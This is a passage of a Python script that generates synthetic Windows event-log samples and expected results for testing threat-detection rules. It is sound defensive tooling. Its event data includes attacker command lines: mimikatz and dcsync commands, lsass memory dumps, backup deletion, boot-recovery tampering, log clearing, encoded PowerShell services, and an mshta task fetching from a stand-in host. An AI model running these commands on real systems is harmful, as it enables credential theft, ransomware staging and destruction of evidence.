#!/usr/bin/env python3
"""make_samples.py OUTDIR - positive and near-miss samples for every rule of the kizuki pack.

Writes OUTDIR/samples.evtx (Windows layout, tests/tools/evtx_writer.py) and OUTDIR/expect.json in
the format check_pack.py reads, with two additions:
  "scope": "pack"    every detection of any pack rule counts (not only the rules listed here),
                     so each record lists every pack rule, old or new, that must fire on it;
  "negative_for"     per record, the rules (or correlations) this record is a near miss of.
Samples of the rules added in issue 4 (and of the correlations) live here; the 16 starter rules
keep their independent cases in make_cases.py, whose event builders this script reuses.

Correlation samples are blocks of events with chosen times; the correlation's name is expected
once, on the record that completes the window; the negative block has one event too few or one
event outside the timespan. Blocks are separated by hours and use their own hosts, accounts and
addresses, so no correlation can join events of two blocks.
Deterministic: the same script writes the same bytes. See README.md here.
"""

import datetime
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # importing make_cases must not leave __pycache__ in the tree
sys.path.insert(0, os.path.join(HERE, '..', 'tools'))
sys.path.insert(0, HERE)
import evtx_writer as W  # noqa: E402
import make_cases as MC  # noqa: E402

# Rules and correlations these samples cover (all of issue 4).
NAMES = [
    'kz_service_shell_command', 'kz_service_shell_command_4697', 'kz_remote_exec_service',
    'kz_c2_framework_named_pipe', 'kz_mimikatz_command_line', 'kz_hacktool_original_filename',
    'kz_process_tool_launched', 'kz_network_scanner_launched', 'kz_backup_deletion',
    'kz_boot_recovery_tamper', 'kz_eventlog_clear_command', 'kz_system_log_cleared',
    'kz_lsass_dump_command', 'kz_ransomware_extension_write', 'kz_scheduled_task_suspicious',
    'kz_run_key_user_writable_path', 'kz_defender_threat_detected',
    'kz_defender_protection_disabled', 'kz_user_account_created',
    'kz_user_added_to_privileged_group', 'kz_audit_policy_disabled', 'kz_sysmon_config_changed',
    'kz_sysmon_service_stopped', 'kz_mailbox_full_access_grant', 'kz_mailbox_forwarding_set',
    'kz_ps_exchange_mail_theft', 'kz_ps_download_cradle', 'kz_powershell_encoded_command',
    'kz_powershell_download_cradle_cmdline', 'kz_webserver_spawns_shell', 'kz_discovery_command',
    'kz_explicit_credentials_logon', 'kz_failed_network_logon', 'kz_restart_manager_session',
    # correlations
    'kz_failed_logon_burst', 'kz_explicit_credentials_fanout', 'kz_new_user_made_admin',
    'kz_ransomware_recovery_prelude', 'kz_ransomware_mass_write', 'kz_restart_manager_burst',
]
# Starter rules that some samples here also trigger (they must be listed in "expect").
OLD = set(MC.INTENTS)

FIRST_RECORD_ID = 52001
BASE = datetime.datetime(2024, 5, 13, 0, 0, 0)

DEFENDER = ('Microsoft-Windows-Windows Defender', '{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}',
            'Microsoft-Windows-Windows Defender/Operational')
RESTART_MANAGER = ('Microsoft-Windows-RestartManager', '{0888E5EF-9B98-4695-979D-E92CE4247224}',
                   'Application')
EVENTLOG_SYSTEM = ('Microsoft-Windows-Eventlog', '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
                   'System')
SYS = 'C:\\Windows\\System32\\'
PS = SYS + 'WindowsPowerShell\\v1.0\\powershell.exe'
CMD = SYS + 'cmd.exe'
DOM_SID = 'S-1-5-21-3623811015-3361044348-30300820'


class Samples(object):
    """Like make_cases.Cases, with a clock the blocks control: step() seconds between events,
    gap() to jump ahead between blocks (no correlation window spans two blocks)."""

    def __init__(self):
        self.items = []
        self.seconds = 0
        self.stride = 7
        self.cur = None

    def gap(self, hours=3):
        self.seconds += hours * 3600

    def step(self, seconds):
        self.stride = seconds

    def utc(self):
        return MC.Cases.utc(self)

    def time(self):
        self.seconds += self.stride
        t = BASE + datetime.timedelta(seconds=self.seconds)
        self.cur = t.strftime('%Y-%m-%dT%H:%M:%S') + '.%07dZ' % ((self.seconds * 7919) % 10000000)
        return self.cur

    def add(self, ev, expect, summary, negative_for=()):
        for k in list(expect) + list(negative_for):
            if k not in NAMES and k not in OLD:
                raise ValueError('unknown rule name ' + k)
        self.items.append((ev, sorted(set(expect)), summary, sorted(set(negative_for))))


# ---- event builders not in make_cases ------------------------------------------------------

def sec(c, eid, computer, data, *, version=0, task=0, types=None):
    s = MC.system(c, MC.SECURITY, eid, computer, version=version, level=0, task=task,
                  keywords='0x8020000000000000', pid=748, tid=6132)
    t = {k: v for k, v in MC.SEC_TYPES.items() if k.split('.', 1)[1] in data}
    t.update(types or {})
    return MC.event(s, data, types=t)


def subject(user='alice', sid=MC.USER_SID, logon='0x5f3a21'):
    return {'SubjectUserSid': sid, 'SubjectUserName': user, 'SubjectDomainName': MC.DOMAIN,
            'SubjectLogonId': logon}


def sec4697(c, computer, name, path):
    d = subject('adm_kato', DOM_SID + '-1207')
    d.update({'ServiceName': name, 'ServiceFileName': path, 'ServiceType': '0x10',
              'ServiceStartType': '3', 'ServiceAccount': 'LocalSystem'})
    return sec(c, 4697, computer, d, task=12289)


def sec4698(c, computer, task_name, command, arguments=''):
    content = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
               'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
               '  <RegistrationInfo>\r\n    <URI>%s</URI>\r\n  </RegistrationInfo>\r\n'
               '  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%s</Command>\r\n'
               '      <Arguments>%s</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>'
               % (task_name, command, arguments))
    d = subject('adm_kato', DOM_SID + '-1207', '0x8a31f2')
    d.update({'TaskName': task_name, 'TaskContent': content, 'ClientProcessStartKey': '0',
              'ClientProcessId': 4412, 'ParentProcessId': 3316, 'RpcCallClientLocality': '0',
              'FQDN': computer})
    return sec(c, 4698, computer, d, version=1, task=12804,
               types={'EventData.ClientProcessId': 'uint32',
                      'EventData.ParentProcessId': 'uint32'})


def sec4720(c, computer, user, sid, *, by='adm_kato'):
    d = {'TargetUserName': user, 'TargetDomainName': MC.DOMAIN, 'TargetSid': sid}
    d.update(subject(by, DOM_SID + '-1207', '0x8a31f2'))
    d.update({'PrivilegeList': '-', 'SamAccountName': user, 'DisplayName': '%%1793',
              'UserPrincipalName': '-', 'PrimaryGroupId': '513', 'NewUacValue': '0x15'})
    return sec(c, 4720, computer, d, task=13824, types={'EventData.TargetSid': 'sid'})


def sec_group_add(c, computer, eid, member, member_sid, group, group_sid, *, by='adm_kato'):
    d = {'MemberName': 'CN=%s,CN=Users,DC=corp,DC=example,DC=com' % member,
         'MemberSid': member_sid, 'TargetUserName': group, 'TargetDomainName': MC.DOMAIN,
         'TargetSid': group_sid}
    d.update(subject(by, DOM_SID + '-1207', '0x8a31f2'))
    d['PrivilegeList'] = '-'
    return sec(c, eid, computer, d, task=13826,
               types={'EventData.MemberSid': 'sid', 'EventData.TargetSid': 'sid'})


def sec4719(c, computer, changes, *, user='adm_kato', sid=DOM_SID + '-1207'):
    d = subject(user, sid, '0x3e7' if sid == MC.SYSTEM_SID else '0x8a31f2')
    d.update({'CategoryId': '%%8274', 'SubcategoryId': '%%12544',
              'SubcategoryGuid': '{0CCE9215-69AE-11D9-BED3-505054503030}',
              'AuditPolicyChanges': changes})
    return sec(c, 4719, computer, d, task=13568,
               types={'EventData.SubcategoryGuid': 'guid'})


def sec4648(c, computer, user, target_server, *, target_user='adm_kato',
            sid=MC.USER_SID):
    d = subject(user, sid)
    d.update({'LogonGuid': '{00000000-0000-0000-0000-000000000000}',
              'TargetUserName': target_user, 'TargetDomainName': MC.DOMAIN,
              'TargetLogonGuid': '{00000000-0000-0000-0000-000000000000}',
              'TargetServerName': target_server, 'TargetInfo': target_server,
              'ProcessId': '0x1a2c', 'ProcessName': SYS + 'svchost.exe',
              'IpAddress': '-', 'IpPort': '-'})
    return sec(c, 4648, computer, d, task=12544,
               types={'EventData.LogonGuid': 'guid', 'EventData.TargetLogonGuid': 'guid',
                      'EventData.ProcessId': 'hexint64'})


def sec4625(c, computer, ip, *, user='administrator', logon_type=3):
    d = {'SubjectUserSid': 'S-1-0-0', 'SubjectUserName': '-', 'SubjectDomainName': '-',
         'SubjectLogonId': '0x0', 'TargetUserSid': 'S-1-0-0', 'TargetUserName': user,
         'TargetDomainName': '', 'Status': '0xc000006d', 'FailureReason': '%%2313',
         'SubStatus': '0xc000006a', 'LogonType': logon_type, 'LogonProcessName': 'NtLmSsp ',
         'AuthenticationPackageName': 'NTLM', 'WorkstationName': '-',
         'TransmittedServices': '-', 'LmPackageName': '-', 'KeyLength': 0,
         'ProcessId': '0x0', 'ProcessName': '-', 'IpAddress': ip, 'IpPort': '0'}
    return sec(c, 4625, computer, d, task=12544,
               types={'EventData.LogonType': 'uint32', 'EventData.KeyLength': 'uint32',
                      'EventData.ProcessId': 'hexint64', 'EventData.Status': 'hexint32',
                      'EventData.SubStatus': 'hexint32'})


def sec4657(c, computer, key, value_name, new_value):
    d = subject()
    d.update({'ObjectName': key, 'ObjectValueName': value_name, 'HandleId': '0x1a4',
              'OperationType': '%%1904', 'OldValueType': '-', 'OldValue': '-',
              'NewValueType': '%%1873', 'NewValue': new_value, 'ProcessId': '0x1b2c',
              'ProcessName': SYS + 'reg.exe'})
    return sec(c, 4657, computer, d, task=12801,
               types={'EventData.HandleId': 'hexint64', 'EventData.ProcessId': 'hexint64'})


def sysmon(c, eid, computer, data, *, version=2, types=None):
    s = MC.system(c, MC.SYSMON, eid, computer, version=version, task=eid, pid=2964, tid=3880,
                  user_sid=MC.SYSTEM_SID)
    d = {'RuleName': '-', 'UtcTime': c.utc()}
    d.update(data)
    return MC.event(s, d, types=types)


def pipe(c, computer, name, image, *, eid=17):
    return sysmon(c, eid, computer,
                  {'EventType': 'CreatePipe' if eid == 17 else 'ConnectPipe',
                   'ProcessGuid': MC.pguid(), 'ProcessId': 4512, 'PipeName': name,
                   'Image': image, 'User': MC.DOMAIN + '\\alice'},
                  version=1, types={'EventData.ProcessGuid': 'guid',
                                    'EventData.ProcessId': 'uint32'})


def regset(c, computer, key, details, image):
    return sysmon(c, 13, computer,
                  {'EventType': 'SetValue', 'ProcessGuid': MC.pguid(), 'ProcessId': 6232,
                   'Image': image, 'TargetObject': key, 'Details': details,
                   'User': MC.DOMAIN + '\\alice'},
                  version=2, types={'EventData.ProcessGuid': 'guid',
                                    'EventData.ProcessId': 'uint32'})


def sysmon16(c, computer, config):
    s = MC.system(c, MC.SYSMON, 16, computer, version=3, task=16, pid=2964, tid=3880,
                  user_sid=MC.SYSTEM_SID)
    return MC.event(s, {'UtcTime': c.utc(), 'Configuration': config,
                        'ConfigurationFileHash': 'SHA256=' + '5E1F' * 16})


def sysmon4(c, computer, state):
    s = MC.system(c, MC.SYSMON, 4, computer, version=3, task=4, pid=2964, tid=3880,
                  user_sid=MC.SYSTEM_SID)
    return MC.event(s, {'UtcTime': c.utc(), 'State': state, 'Version': '15.14',
                        'SchemaVersion': '4.90'})


def defender(c, computer, eid, data=None):
    s = MC.system(c, DEFENDER, eid, computer, level=3 if eid in (1116, 1117) else 2,
                  keywords='0x8000000000000000', pid=3716, tid=9440, user_sid=MC.SYSTEM_SID)
    d = {'Product Name': 'Microsoft Defender Antivirus', 'Product Version': '4.18.24030.9'}
    d.update(data or {})
    return MC.event(s, d)


def threat(name, path, action='Quarantine'):
    return {'Detection ID': '{3B9C4F12-88A0-4E4B-9C1D-2F0E1A6B7C55}',
            'Detection Time': '2024-05-13T09:00:00.000Z', 'Threat ID': '2147725325',
            'Threat Name': name, 'Severity ID': '5', 'Severity Name': 'Severe',
            'Category ID': '34', 'Category Name': 'Tool', 'Path': 'file:_' + path,
            'Detection Origin Name': 'Local machine', 'Detection User': 'CORP\\alice',
            'Process Name': 'Unknown', 'Action Name': action, 'Error Code': '0x00000000'}


def restart_manager(c, computer, session, *, eid=10000):
    s = MC.system(c, RESTART_MANAGER, eid, computer, keywords='0x80000000000000', pid=5124,
                  tid=2216, user_sid=MC.USER_SID)
    return MC.event(s, {'RmSessionId': session, 'UTCStartTime': c.cur})


def system104(c, computer, channel, *, prov=EVENTLOG_SYSTEM, eid=104):
    s = MC.system(c, prov, eid, computer, level=4, task=104, keywords='0x8000000000000000',
                  pid=1244, tid=4672, user_sid=MC.ADMIN_SID)
    ud = {'LogFileCleared': {'#attributes': {'xmlns': MC.EVENTLOG_NS},
                             'SubjectUserName': 'adm_kato', 'SubjectDomainName': MC.DOMAIN,
                             'Channel': channel, 'BackupPath': ''}}
    return MC.event(s, userdata=ud)


def proc(c, computer, image, cmdline, *, parent=CMD, ofn='-', form='sysmon', user=None):
    """A process creation as Sysmon 1 (form='sysmon') or Security 4688 (form='4688')."""
    if form == '4688':
        return MC.sec4688(c, computer, image, cmdline, parent, user=user or 'alice')
    return MC.sysmon1(c, computer, image, cmdline, parent, parent, ofn=ofn,
                      user=user or MC.DOMAIN + '\\alice')


# ---- the samples --------------------------------------------------------------------------

def single_rules(c):
    srv, ws = 'SRV-APP02.corp.example.com', 'WS0233.corp.example.com'

    # kz_service_shell_command (System 7045)
    k = 'kz_service_shell_command'
    c.add(MC.sys7045(c, srv, 'BTOBTO', '%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output '
                     '2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat'),
          [k], '7045 smbexec-style %COMSPEC% service')
    c.add(MC.sys7045(c, srv, 'hgabms', 'cmd.exe /c echo hgabms > \\\\.\\pipe\\hgabms'),
          [k], '7045 getsystem pipe echo service')
    c.add(MC.sys7045(c, srv, 'UWdKhYTI', '%COMSPEC% /b /c start /b /min powershell.exe -nop '
                     '-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='),
          [k], '7045 encoded PowerShell service')
    c.add(MC.sys7045(c, srv, 'updsvc', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\'
                     'powershell.exe -nop -c "IEX([Text.Encoding]::UTF8.GetString('
                     '[Convert]::FromBase64String(\'SQBFAFgA\')))"'),
          [k], '7045 PowerShell FromBase64String service (no cmd)')
    c.add(MC.sys7045(c, srv, 'W32TimeX', 'C:\\Windows\\System32\\svchost.exe -k netsvcs'), [],
          'neg 7045 svchost service', [k])
    c.add(MC.sys7045(c, srv, 'PSReportSvc', '"C:\\Program Files\\PSReport\\powershell_host.exe"'
                     ' -service -config report.xml'),
          [], 'neg 7045 powershell in the name, no payload', [k])
    c.add(MC.sys7045(c, srv, 'cmdagent', '"C:\\Program Files\\Agent\\cmd.exe" --service'), [],
          'neg 7045 a binary named cmd.exe, no /c', [k])

    # kz_service_shell_command_4697
    k = 'kz_service_shell_command_4697'
    c.add(sec4697(c, srv, 'iOWamcEn', '%COMSPEC% /b /c start /b /min powershell.exe -nop -w '
                  'hidden -noni -c "IEX (New-Object IO.StreamReader(...)).ReadToEnd()"'),
          [k], '4697 %COMSPEC% service')
    c.add(sec4697(c, srv, 'hijack', 'cmd.exe /k tscon 2 /dest:rdp-tcp#5'),
          [k], '4697 cmd.exe /k tscon service')
    c.add(sec4697(c, srv, 'Spooler2', 'C:\\Windows\\System32\\spoolsv.exe'), [],
          'neg 4697 ordinary binary', [k])
    c.add(sec4697(c, srv, 'psh', 'powershell.exe -File C:\\Scripts\\svc.ps1'), [],
          'neg 4697 PowerShell without encoded/download payload', [k])

    # kz_service_from_user_writable_path (starter rule): the Defender exclusion added in issue 4
    k = 'kz_service_from_user_writable_path'
    c.add(MC.sys7045(c, ws, 'MpKsl36ffa3d2', 'C:\\ProgramData\\Microsoft\\Windows Defender\\'
                     'Definition Updates\\{44EAA2B6-5725-4D6A-8B83-7EDC2FCB1F10}\\'
                     'MpKsl36ffa3d2.sys',
                     start='system start', account='', stype='kernel mode driver'),
          [], 'neg 7045 Defender definition-update driver MpKsl*.sys (excluded)', [k])
    c.add(MC.sys7045(c, ws, 'MpKslUpd', 'C:\\ProgramData\\MpKsl\\MpKslUpd.exe'), [k],
          '7045 MpKsl* name outside Defender\'s folder still fires')
    c.add(MC.sys7045(c, ws, 'MpKsl99', 'C:\\ProgramData\\Microsoft\\Windows Defender\\'
                     'Definition Updates\\x\\payload.exe'), [k],
          '7045 MpKsl* .exe in Defender\'s folder still fires (only .sys excluded)')

    # kz_remote_exec_service
    k = 'kz_remote_exec_service'
    c.add(MC.sys7045(c, srv, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'), [k], '7045 PSEXESVC')
    c.add(MC.sys7045(c, srv, 'PAExec-4120-WS0233', '%SystemRoot%\\PAExec-4120-WS0233.exe'),
          [k], '7045 PAExec service')
    c.add(MC.sys7045(c, srv, 'RemComSvc', 'C:\\Windows\\RemComSvc.exe'), [k], '7045 RemCom')
    c.add(MC.sys7045(c, srv, 'PSEXESVC2', 'C:\\Windows\\System32\\svchost2.exe'), [],
          'neg 7045 PSEXESVC2 (name is not PSEXESVC)', [k])
    c.add(MC.sys7045(c, srv, 'ExecSvc', '"C:\\Program Files\\Exec\\execsvc.exe"'), [],
          'neg 7045 ordinary service', [k])

    # kz_c2_framework_named_pipe
    k = 'kz_c2_framework_named_pipe'
    c.add(pipe(c, ws, '\\MSSE-4312-server', 'C:\\Users\\Public\\beacon.exe'), [k],
          'Sysmon 17 \\MSSE-4312-server')
    c.add(pipe(c, ws, '\\postex_ssh_7a21', SYS + 'rundll32.exe'), [k],
          'Sysmon 17 \\postex_ssh_7a21')
    c.add(pipe(c, srv, '\\msagent_81', 'C:\\Windows\\Temp\\svc.exe', eid=18), [k],
          'Sysmon 18 \\msagent_81 (connect)')
    c.add(pipe(c, ws, '\\status_1c', SYS + 'dllhost.exe'), [k], 'Sysmon 17 \\status_1c')
    c.add(pipe(c, ws, '\\MSSE-4312-client', 'C:\\Users\\Public\\a.exe'), [],
          'neg Sysmon 17 \\MSSE-...-client', [k])
    c.add(pipe(c, ws, '\\srvsvc', SYS + 'svchost.exe'), [], 'neg Sysmon 17 \\srvsvc', [k])
    c.add(pipe(c, ws, '\\statusbar_ipc', 'C:\\Program Files\\App\\app.exe'), [],
          'neg Sysmon 17 \\statusbar_ipc (no underscore after status)', [k])

    # kz_mimikatz_command_line
    k = 'kz_mimikatz_command_line'
    c.add(proc(c, ws, 'C:\\Users\\Public\\m64.exe',
               'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
          [k], 'Sysmon 1 renamed mimikatz with module commands')
    c.add(proc(c, srv, 'C:\\Tools\\x64\\mimikatz.exe', 'mimikatz.exe', form='4688'),
          [k], '4688 mimikatz.exe by image name')
    c.add(proc(c, srv, PS, 'powershell.exe -c "Invoke-Mimikatz -Command \'\\"lsadump::dcsync '
               '/user:krbtgt\\"\'"', form='4688'),
          [k], '4688 Invoke-Mimikatz dcsync')
    c.add(proc(c, ws, SYS + 'certutil.exe', 'certutil -dump cert.cer'), [],
          'neg Sysmon 1 certutil -dump (no module::)', [k])
    c.add(proc(c, ws, 'C:\\Tools\\mimikatz_docs.exe', 'mimikatz_docs.exe /help'), [],
          'neg Sysmon 1 mimikatz_docs.exe (not \\mimikatz.exe)', [k])

    # kz_hacktool_original_filename (Sysmon 1 only)
    k = 'kz_hacktool_original_filename'
    c.add(proc(c, ws, 'C:\\Users\\Public\\svchost.exe', 'svchost.exe', ofn='mimikatz.exe'),
          [k], 'Sysmon 1 mimikatz renamed svchost.exe (OriginalFileName)')
    c.add(proc(c, ws, 'C:\\Users\\alice\\Desktop\\r.exe', 'r.exe kerberoast', ofn='Rubeus.exe'),
          [k], 'Sysmon 1 Rubeus renamed')
    c.add(proc(c, srv, 'C:\\Windows\\Temp\\pch.exe', 'pch.exe', ofn='PCHunter64.exe'),
          [k], 'Sysmon 1 PCHunter64 renamed')
    c.add(proc(c, ws, SYS + 'svchost.exe', 'svchost.exe -k netsvcs', ofn='svchost.exe'), [],
          'neg Sysmon 1 real svchost', [k])
    c.add(proc(c, ws, 'C:\\Tools\\mimikatz-notes.exe', 'mimikatz-notes.exe',
               ofn='mimikatz-notes.exe'), [], 'neg Sysmon 1 OriginalFileName mimikatz-notes.exe',
          [k])

    # kz_process_tool_launched
    k = 'kz_process_tool_launched'
    c.add(proc(c, srv, 'C:\\Users\\adm\\Desktop\\ProcessHacker\\ProcessHacker.exe',
               'ProcessHacker.exe'), [k], 'Sysmon 1 ProcessHacker.exe')
    c.add(proc(c, srv, 'C:\\Windows\\Temp\\PCHunter64.exe', 'PCHunter64.exe', form='4688'),
          [k], '4688 PCHunter64.exe')
    c.add(proc(c, srv, 'C:\\Tools\\processhacker-setup.exe', 'processhacker-setup.exe'), [],
          'neg Sysmon 1 processhacker-setup.exe', [k])
    c.add(proc(c, srv, SYS + 'taskmgr.exe', 'taskmgr.exe /7'), [], 'neg Sysmon 1 taskmgr',
          [k])

    # kz_network_scanner_launched
    k = 'kz_network_scanner_launched'
    c.add(proc(c, ws, 'C:\\Users\\alice\\AppData\\Local\\Temp\\Advanced IP Scanner 2\\'
               'advanced_ip_scanner.exe', '"advanced_ip_scanner.exe" /portable'),
          [k], 'Sysmon 1 Advanced IP Scanner portable')
    c.add(proc(c, ws, 'C:\\Users\\Public\\netscan.exe', 'netscan.exe /hide /auto:out.xml',
               form='4688'), [k], '4688 SoftPerfect netscan.exe')
    c.add(proc(c, ws, 'C:\\Program Files (x86)\\Nmap\\nmap.exe', 'nmap -sS 10.20.0.0/16'),
          [k], 'Sysmon 1 nmap')
    c.add(proc(c, ws, 'C:\\Tools\\netscanner-report.exe', 'netscanner-report.exe'), [],
          'neg Sysmon 1 netscanner-report.exe', [k])
    c.add(proc(c, ws, SYS + 'PING.EXE', 'ping -n 1 10.20.0.5'), [], 'neg Sysmon 1 ping', [k])

    # kz_backup_deletion
    k = 'kz_backup_deletion'
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin delete systemstatebackup -deleteOldest'),
          [k], 'Sysmon 1 wbadmin delete systemstatebackup -deleteOldest')
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin  delete backup -keepVersions:0 -quiet',
               form='4688'), [k], '4688 wbadmin delete backup -keepVersions:0')
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin delete catalog -quiet'),
          [k, 'kz_shadow_copy_deletion'], 'Sysmon 1 wbadmin delete catalog (starter rule too)')
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin delete systemstatebackup -keepversions:3'),
          [], 'neg Sysmon 1 wbadmin pruning -keepversions:3', [k])
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin get versions -backupTarget:E:',
               form='4688'), [], 'neg 4688 wbadmin get versions', [k])
    c.add(proc(c, srv, SYS + 'wbadmin.exe', 'wbadmin start backup -backupTarget:E: -quiet'),
          [], 'neg Sysmon 1 wbadmin start backup', [k])

    # kz_boot_recovery_tamper (own host, hours later: with the wbadmin catalog sample above
    # it would complete kz_ransomware_recovery_prelude)
    k = 'kz_boot_recovery_tamper'
    srv = 'SRV-APP03.corp.example.com'
    c.gap()
    c.add(proc(c, srv, SYS + 'bcdedit.exe',
               'bcdedit /set {default} bootstatuspolicy ignoreallfailures', form='4688'),
          [k], '4688 bcdedit bootstatuspolicy ignoreallfailures')
    c.add(proc(c, srv, SYS + 'bcdedit.exe', 'bcdedit.exe /set {current} recoveryenabled NO'),
          [k, 'kz_shadow_copy_deletion'], 'Sysmon 1 bcdedit recoveryenabled NO (starter too)')
    c.add(proc(c, srv, SYS + 'bcdedit.exe', 'bcdedit /set {default} bootstatuspolicy '
               'displayallfailures'), [], 'neg Sysmon 1 bcdedit displayallfailures', [k])
    c.add(proc(c, srv, SYS + 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled Yes',
               form='4688'), [], 'neg 4688 bcdedit recoveryenabled Yes', [k])

    srv = 'SRV-APP02.corp.example.com'
    c.gap()

    # kz_eventlog_clear_command
    k = 'kz_eventlog_clear_command'
    c.add(proc(c, srv, SYS + 'wevtutil.exe', '"C:\\Windows\\system32\\wevtutil.exe"  cl '
               'Security', form='4688'), [k], '4688 wevtutil cl Security')
    c.add(proc(c, srv, SYS + 'wevtutil.exe', 'wevtutil clear-log System /bu:C:\\x.evtx'),
          [k], 'Sysmon 1 wevtutil clear-log')
    c.add(proc(c, srv, PS, 'powershell -c "Clear-EventLog -LogName Application,System"'),
          [k], 'Sysmon 1 powershell Clear-EventLog')
    c.add(proc(c, srv, SYS + 'wevtutil.exe', 'wevtutil qe Security /c:5 /f:text'), [],
          'neg Sysmon 1 wevtutil qe', [k])
    c.add(proc(c, srv, SYS + 'wevtutil.exe', 'wevtutil epl Security C:\\b\\sec.evtx',
               form='4688'), [], 'neg 4688 wevtutil epl (export)', [k])

    # kz_system_log_cleared
    k = 'kz_system_log_cleared'
    c.add(system104(c, srv, 'System'), [k], 'System 104 System log cleared')
    c.add(system104(c, srv, 'Microsoft-Windows-Sysmon/Operational'), [k],
          'System 104 Sysmon log cleared')
    c.add(system104(c, srv, 'System', eid=105), [], 'neg System 105 (autobackup)', [k])
    c.add(system104(c, srv, 'System', prov=('Microsoft-Windows-Kernel-General',
                                            '{A68CA8B7-004F-D7B6-A698-07E2DE0F1F5D}',
                                            'System')), [],
          'neg System 104 from another provider', [k])

    # kz_lsass_dump_command
    k = 'kz_lsass_dump_command'
    c.add(proc(c, srv, SYS + 'rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll,'
               ' MiniDump 736 C:\\Windows\\Temp\\l.dmp full'), [k], 'Sysmon 1 comsvcs MiniDump')
    c.add(proc(c, srv, 'C:\\Tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe '
               'C:\\Windows\\Temp\\l.dmp', form='4688'), [k], '4688 procdump -ma lsass')
    c.add(proc(c, srv, 'C:\\Tools\\procdump64.exe', 'procdump64.exe -ma w3wp.exe w3.dmp'), [],
          'neg Sysmon 1 procdump -ma w3wp', [k])
    c.add(proc(c, srv, SYS + 'rundll32.exe', 'rundll32.exe comsvcs.dll,DllRegisterServer'), [],
          'neg Sysmon 1 comsvcs without MiniDump', [k])

    # kz_ransomware_extension_write (single files; the burst is a correlation below)
    k = 'kz_ransomware_extension_write'
    c.add(MC.sysmon11(c, srv, 'C:\\Users\\Public\\lb3.exe', 'D:\\Share\\Sales\\q1.xlsx.lockbit'),
          [k], 'Sysmon 11 .lockbit')
    c.add(MC.sysmon11(c, srv, 'C:\\Users\\Public\\lb3.exe', 'D:\\Share\\Restore-My-Files.txt'),
          [k], 'Sysmon 11 ransom note Restore-My-Files.txt')
    c.add(MC.sysmon11(c, srv, 'C:\\Users\\Public\\ak.exe', 'E:\\VM\\disk.vhdx.AKIRA'),
          [k], 'Sysmon 11 .AKIRA (upper case)')
    c.add(MC.sysmon11(c, srv, SYS + 'notepad.exe', 'D:\\Share\\Sales\\locked-accounts.xlsx'),
          [], 'neg Sysmon 11 "locked" in the name, not the extension', [k])
    c.add(MC.sysmon11(c, srv, 'C:\\Program Files\\7-Zip\\7z.exe', 'D:\\Share\\backup.7z'), [],
          'neg Sysmon 11 .7z', [k])

    # kz_scheduled_task_suspicious
    k = 'kz_scheduled_task_suspicious'
    c.add(sec4698(c, srv, '\\Microsoft\\Windows\\UpdateCheck', 'C:\\Users\\Public\\upd.exe'),
          [k], '4698 task runs from \\Users\\Public\\')
    c.add(sec4698(c, srv, '\\OneDriveSync', PS,
                  '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
          [k], '4698 task runs encoded PowerShell')
    c.add(sec4698(c, srv, '\\eviltask', SYS + 'mshta.exe', 'http://203.0.113.9/p.hta'),
          [k], '4698 task runs mshta with a URL')
    c.add(sec4698(c, srv, '\\bouWFQYO', 'cmd.exe', '/C whoami &gt; %windir%\\Temp\\bouWFQYO.tmp '
                  '2&gt;&amp;1'), [k], '4698 atexec-style task writing to %windir%\\Temp\\')
    c.add(sec4698(c, srv, '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
                  '%windir%\\system32\\defrag.exe', '-c -h -o -$'), [],
          'neg 4698 defrag task', [k])
    c.add(sec4698(c, srv, '\\Backup\\Nightly', 'C:\\Program Files\\Backup\\run.exe',
                  '/job nightly'), [], 'neg 4698 program in Program Files', [k])

    # kz_run_key_user_writable_path
    k = 'kz_run_key_user_writable_path'
    hkcu = 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\SOFTWARE\\Microsoft\\Windows\\' \
           'CurrentVersion\\'
    c.add(regset(c, ws, hkcu + 'Run\\OneDriveUpd', 'C:\\Users\\Public\\odu.exe',
                 SYS + 'reg.exe'), [k], 'Sysmon 13 HKCU Run -> \\Users\\Public\\')
    c.add(regset(c, ws, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x',
                 '"C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe" /s', SYS + 'reg.exe'),
          [k], 'Sysmon 13 HKLM RunOnce -> %TEMP%')
    c.add(sec4657(c, ws, '\\REGISTRY\\USER\\%s-1104\\SOFTWARE\\Microsoft\\Windows\\'
                  'CurrentVersion\\Run' % DOM_SID, 'upd', 'C:\\Users\\Public\\upd.exe'),
          [k], 'Security 4657 Run value -> \\Users\\Public\\ (registry alternate)')
    c.add(sec4657(c, ws, '\\REGISTRY\\USER\\%s-1104\\SOFTWARE\\Microsoft\\Windows\\'
                  'CurrentVersion\\Explorer\\RunMRU' % DOM_SID, 'a',
                  'C:\\Users\\Public\\x.exe\\1'), [],
          'neg Security 4657 RunMRU (not an autostart key)', [k])
    c.add(regset(c, ws, hkcu + 'Run\\Teams', '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\'
                 'Teams\\Update.exe" --processStart Teams.exe',
                 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe'), [],
